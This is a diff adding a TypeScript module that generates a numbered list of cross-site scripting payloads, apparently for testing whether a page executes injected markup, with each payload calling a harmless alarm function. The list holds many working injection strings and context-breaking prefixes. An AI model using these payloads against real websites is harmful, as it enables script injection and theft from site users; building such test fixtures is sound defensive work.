@@ -1,0 +1,72 @@
+/** What a payload calls if it runs; the watcher of a page puts it there. */
+export const ALARM = 'alarm';
+
+/** Markup that runs something once it is parsed as HTML, shown by itself or after breaking out. */
+const MARKUP = [
+  '<script>CODE</script>',
+  '<ScRiPt>CODE</sCrIpT>',
+  '<script src="data:text/javascript,CODE"></script>',
+  '<script type="module">CODE</script>',
+  '<script>/*<!--*/CODE</script>',
+  '<img src=x onerror="CODE">',
+  "<img src=x onerror='CODE'>",
+  '<img src=x onerror=CODE>',
+  '<img/src=x/onerror=CODE>',
+  '<img src=x:x onerror=CODE//',
+  '<IMG SRC=x OnErRoR="CODE">',
+  '<img srcset=x onerror="CODE">',
+  '<picture><source srcset=x><img onerror="CODE" src=x></picture>',
+  '<svg onload="CODE">',
+  '<svg/onload=CODE>',
+  '<svg><script>CODE</script></svg>',
+  '<svg><animate onbegin="CODE" attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:CODE"><text>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=CODE>#x"/></svg>',
+  '<svg><foreignObject><body onload="CODE"></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="CODE"></style></table></mtext></math>',
+  '<body onload="CODE">',
+  '<iframe src="javascript:CODE"></iframe>',
+  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
+  '<iframe onload="CODE"></iframe>',
+  '<object data="javascript:CODE"></object>',
+  '<embed src="javascript:CODE">',
+  '<video src=x onerror="CODE"></video>',
+  '<video><source onerror="CODE"></video>',
+  '<audio src=x onerror="CODE">',
+  '<details open ontoggle="CODE">x</details>',
+  '<input autofocus onfocus="CODE">',
+  '<textarea autofocus onfocus="CODE">',
+  '<select autofocus onfocus="CODE"></select>',
+  '<marquee onstart="CODE">x</marquee>',
+  '<form action="javascript:CODE"><button autofocus>x</button></form>',
+  '<form><button formaction="javascript:CODE">x</button></form>',
+  '<a href="javascript:CODE">x</a>',
+  '<a href="JaVaScRiPt:CODE">x</a>',
+  '<a href="java\tscript:CODE">x</a>',
+  '<a href="&#106;avascript:CODE">x</a>',
+  '<a href="data:text/html,<script>CODE</script>">x</a>',
+  '<base href="javascript:CODE//">',
+  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:CODE)}">',
+  '<style>@import "javascript:CODE";</style>',
+  '<style onload="CODE"></style>',
+  '<div style="background:url(javascript:CODE)">x</div>',
+  '<div style="animation-name:x" onanimationstart="CODE"></div>',
+  '<meta http-equiv="refresh" content="0;url=javascript:CODE">',
+  '<template><script>CODE</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
+  '<x onclick="CODE" contenteditable autofocus onfocus="CODE">x</x>',
+  '<!--><img src=x onerror="CODE">-->',
+  '<![CDATA[<img src=x onerror="CODE">]]>',
+  '{{constructor.constructor("CODE")()}}',
+  '${CODE}',
+  'javascript:CODE',
+  'data:text/html,<script>CODE</script>',
+];
+
+/** Ways out of where a text may stand: an element, an attribute, a script, a comment. */
+const BREAKS = ['', '">', "'>", '</textarea></title></script></style>', '--></p>'];
+
+/** Each with a number of its own, so that one that runs can be told. */
+export const PAYLOADS: readonly string[] = BREAKS.flatMap((before) =>
+  MARKUP.map((markup) => `${before}${markup}`),
+).map((payload, n) => payload.replaceAll('CODE', `${ALARM}(${n})`));
